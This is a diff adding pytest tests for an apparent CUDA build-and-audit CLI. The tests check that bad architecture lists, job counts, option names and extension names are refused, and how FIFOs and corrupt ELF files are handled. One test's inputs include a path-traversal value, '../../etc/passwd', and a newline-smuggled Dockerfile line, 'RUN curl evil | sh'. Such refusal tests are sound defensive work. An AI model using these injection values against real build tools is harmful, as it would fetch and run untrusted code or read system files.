@@ -135,3 +135,72 @@ def test_fuzz_reader_raises_only_corrupt_binary_error(
                 binary.kernels(entry)
     except CorruptBinaryError as exc:
         assert "\n" not in str(exc)
+
+
+@pytest.mark.parametrize("args, message", [
+    (["build", "--base", "x", "--arch", ""], "the arch list is empty"),
+    (["build", "--base", "x", "--arch", "99.9a"], "'99.9a' is not a CUDA architecture"),
+    (["build", "--base", "x", "--arch", "9.0"], "'9.0' gives sm_121 no native code"),
+    (["build", "--base", "x", "--arch", "12.0a"], "'12.0a' gives sm_121 no native code"),
+    (["dockerfile", "--base", "x", "--arch", "9.0+PTX"], "gives sm_121 no native code"),
+    (["patch", ".", "--arch", "8.0"], "'8.0' gives sm_121 no native code"),
+    (["build", "--base", "x", "--jobs", "-5"], "-5 is not in the range 1<=x<=4096"),
+    (["build", "--base", "x", "--jobs", "0"], "0 is not in the range"),
+    (["dockerfile", "--base", "x", "--ext", "../../etc/passwd"], "is not an extension name"),
+    (["dockerfile", "--base", "x", "--ext", "x\nRUN curl evil | sh"], "is not an extension"),
+    (["build", "--base", "x", "--ext", "_C abi3.so"], "is not an extension name"),
+    (["build", "--fooo"], "No such option '--fooo'. Did you mean '--force'?"),
+    (["patch"], "Missing argument 'SOURCE'."),
+])
+def test_inputs_are_refused_before_any_work_in_one_line(args: list[str], message: str) -> None:
+    """Checked before the engine is contacted (the base `x` does not exist anywhere)."""
+    line = _one_line_error(cli(*args))
+    assert message in line and line.endswith("--help)")
+
+
+@pytest.mark.parametrize("arch", ["12.1", "12.1a", "9.0 12.1", "12.0f", "8.0+PTX;12.1"])
+def test_arch_lists_that_give_sm121_native_code_pass(arch: str) -> None:
+    from sm121_build.inputs import arch_list
+
+    assert arch_list(None, None, arch) == arch
+
+
+def test_a_fifo_is_skipped_in_a_directory_and_refused_alone(plain_so: Path,
+                                                            tmp_path: Path) -> None:
+    import os
+    import shutil
+
+    folder = tmp_path / "site"
+    folder.mkdir()
+    shutil.copy(plain_so, folder / "good.so")
+    os.mkfifo(folder / "pipe.so")
+    result = cli("audit", "--json", str(folder))  # would block forever reading the FIFO
+    assert result.returncode == 0, result.stderr
+    assert "skipped: pipe.so: not a regular file" in result.stderr
+    assert "not a regular file (a FIFO" in _one_line_error(cli("audit", str(folder / "pipe.so")))
+
+
+def test_one_corrupt_file_among_many_is_reported_and_the_rest_audited(
+        plain_so: Path, tmp_path: Path) -> None:
+    import json
+    import shutil
+
+    folder = tmp_path / "site"
+    folder.mkdir()
+    shutil.copy(plain_so, folder / "a_good.so")
+    start, _size = _fatbin_span(plain_so)
+    (folder / "b_cut.so").write_bytes(plain_so.read_bytes()[: start + 100])
+    result = cli("audit", "--json", str(folder))
+    assert result.returncode == 2
+    assert [b["name"] for b in json.loads(result.stdout)["binaries"]] == ["a_good.so"]
+    lines = result.stderr.strip().splitlines()
+    assert lines[0].startswith("unreadable: b_cut.so: ")
+    assert lines[-1] == f"error: 1 of 2 ELF file(s) in {folder} could not be read (listed above)"
+
+
+def test_require_with_nothing_found_fails(tmp_path: Path) -> None:
+    (tmp_path / "empty").mkdir()
+    result = cli("audit", "--require", "native", "--include", "*/vlm/*", str(tmp_path / "empty"))
+    assert result.returncode == 1
+    assert "--require native: no ELF file found" in result.stderr
+    assert "matching */vlm/*: nothing was checked" in result.stderr
